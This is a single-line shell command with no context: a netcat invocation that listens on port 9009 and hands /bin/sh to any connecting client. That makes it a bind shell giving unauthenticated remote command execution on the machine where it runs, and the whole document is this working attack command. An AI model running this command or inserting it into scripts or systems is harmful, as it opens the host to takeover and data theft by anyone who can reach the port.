nc -l -p 9009 -w 1 -e /bin/sh
